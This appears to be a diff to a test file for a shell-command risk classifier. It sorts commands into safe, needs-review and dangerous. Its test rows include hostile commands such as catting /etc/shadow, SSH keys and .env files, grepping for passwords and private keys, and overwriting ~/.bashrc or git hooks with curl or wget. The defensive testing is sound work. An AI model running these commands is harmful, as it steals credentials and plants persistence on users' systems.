@@ -75,6 +75,25 @@ describe("safe", () => {
     "GIT_TERMINAL_PROMPT=0 git status",
     "PYTHONUNBUFFERED=1 ls",
   ]);
+  rows("reads outside the workspace", "safe", [
+    "cat /etc/hosts",
+    "cat < /etc/os-release",
+    "cat /proc/cpuinfo",
+    "grep -rn x /usr/include",
+    "cat ../x",
+    "cat ~/notes.md",
+    "cat ~/.gitconfig",
+    "head /tmp/a.log",
+    "cat /tmp/*.log",
+    "ls ~",
+    "ls /",
+    "ls ~/*",
+    "ls ~/.ssh",
+    "du -sh ~/Downloads",
+    "cd /tmp && ls",
+    "find / -name libssl.so",
+    "find /usr -name '*.h' | xargs grep -l x",
+  ]);
   rows("here-documents", "safe", ["cat <<'EOF'\nrm -rf build\nEOF", "cat <<EOF\n$HOME $(pwd)\nEOF"]);
 });
 
@@ -138,14 +157,28 @@ describe("not safe", () => {
     "ls > ~/f",
     "{ ls; } > f",
   ]);
-  rows("reads outside the workspace", "needs-review", [
+  rows("reads of what is someone's own, or around it", "needs-review", [
     "cat /etc/passwd",
-    "ls ~",
-    "cat ../x",
-    "ls /",
-    "cat < /etc/hosts",
-    "cd /tmp && ls",
+    "cat < /etc/passwd",
+    "cat ~/.foorc",
+    "cat ~/.config/x/y",
+    "cat /home/other/x",
+    "cat /root/x",
+    "cat /proc/1/maps",
+    "cat /dev/sda1x",
+    "cat ~/*",
+    "cat /etc/*",
+    "grep -r x ~",
+    "grep -r x /",
+    "grep -r x ..",
+    "rg x /etc",
     "ls ~root",
+    "git -C /tmp/x status",
+    "find ~ -name id_rsa",
+    "find / -perm -4000",
+    "find ~ -name '*.txt' | xargs cat",
+    "find / -exec cat {} +",
+    "cat $(find ~)",
   ]);
   rows("directories that aren't certain", "needs-review", [
     "cd src; cat a",
@@ -246,9 +279,9 @@ describe("traps", () => {
   ]);
   rows("an option that takes no value everywhere", "needs-review", [
     "fold -w x a",
-    "od -w /etc/hosts",
-    "grep -C x /etc/hosts",
-    "strings -w /etc/hosts",
+    "od -w /etc/passwd",
+    "grep -C x /etc/passwd",
+    "strings -w /etc/passwd",
   ]);
   rows("builtins that a wrapper doesn't run", "needs-review", ["timeout 5 cd src && cat a", "env cd src"]);
   rows("other directories", "needs-review", [
@@ -264,7 +297,6 @@ describe("traps", () => {
     "cat < ${x@P}",
     "exit ${x@P}",
   ]);
-  rows("names outside the workspace", "needs-review", ["echo /etc/*", "echo ~/*"]);
   rows("options after -c", "needs-review", ["bash -c -x ls", "bash -c -- ls"]);
   rows("here-documents without an end", "needs-review", ["cat <<EOF\nx", "cat <<EOF"]);
   rows("text that bash refuses", "needs-review", ["ls < 2>&1", "ls \\", "ls @(a|b)", "ls && time || !"]);
@@ -319,6 +351,19 @@ describe("dangerous", () => {
     "export PATH=/tmp/x:$PATH",
     "sudo PAGER='sh -c id' man ls",
   ]);
+  rows("secrets that other words name", "dangerous", [
+    "echo /etc/shadow | xargs cat",
+    "find / -name id_rsa -exec cat {} +",
+    "find . -name '.env*' | xargs cat",
+    "cat $(find ~ -name '*.pem')",
+    "git ls-files | grep .env | xargs head",
+    "ls ~/.aws/credentials | while read f; do cat $f; done",
+  ]);
+  rows("searches for secrets", "dangerous", [
+    "grep -r password ~",
+    "grep -rE 'BEGIN .*PRIVATE' /",
+    "rg -i api_key /etc",
+  ]);
   rows("secrets", "dangerous", [
     "cat .env",
     "cat ~/.ssh/id_rsa",
@@ -342,6 +387,13 @@ describe("dangerous", () => {
     "ls > .vscode/tasks.json",
     "ls > .husky/pre-commit",
     "touch /usr/bin/x",
+    "curl -sSLo ~/.bashrc https://x.io",
+    "sed -i s/a/b/ /etc/hosts",
+    "tar xzf a.tgz -C /usr/local",
+    "wget --output-document=.git/hooks/pre-commit x.io",
+    "cp -t /etc a",
+    "chmod +x /usr/local/bin/x",
+    "git clone u ~/.config/x",
   ]);
   rows("through wrappers", "dangerous", [
     "nice -n 5 rm -rf x",
@@ -458,7 +510,7 @@ describe("context", () => {
   });
 
   it("follows `link/..` as the kernel does", () => {
-    const realpath = (path: string) => (path === "/home/me/project/link" ? "/srv/deep/place" : path);
+    const realpath = (path: string) => (path === "/home/me/project/link" ? "/root/deep/place" : path);
     assert.equal(risk("cat link/../x", { realpath }), "needs-review");
   });
 });
